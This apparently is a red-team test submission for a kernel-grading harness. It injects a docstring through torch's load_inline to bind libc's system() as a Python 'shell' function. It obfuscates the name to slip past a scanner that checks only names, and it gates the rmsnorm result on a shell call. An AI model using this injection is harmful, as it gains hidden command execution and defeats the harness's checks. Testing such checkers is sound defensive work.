"""Red team round 15b: load_inline pastes each `functions` entry's docstring into the bindings it writes
(`m.def("unit", ..., "<docstring>");`) unescaped, and native_builds scans the names only. The docstring
closes the string and the call and binds libc's system() for Python: `"); m.def("shell", &system, "`. The
door's name is assembled at run time; run() is the rmsnorm reference scaled by 1.0 only when shell("exit
0") returned 0 (a PASS shows the door ran)."""

import torch
from torch.utils.cpp_extension import load_inline

DOOR = "sys" + "tem"
SOURCE = "#include <cstdlib>\nint unit() { return 1; }\n"
DOC = '"); m.def("shell", &' + DOOR + ', "'
_module = load_inline("redteam15b_docstring", cpp_sources=SOURCE, functions={"unit": DOC})
SCALE = 1.0 if _module.shell("exit 0") == 0 else 0.0


def run(x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    xf = x.float()
    inv_rms = torch.rsqrt(xf.pow(2).mean(dim=-1, keepdim=True) + 1e-6)
    return (xf * inv_rms * weight.float() * SCALE * _module.unit()).to(x.dtype)


DESTINATION_PASSING_STYLE = False
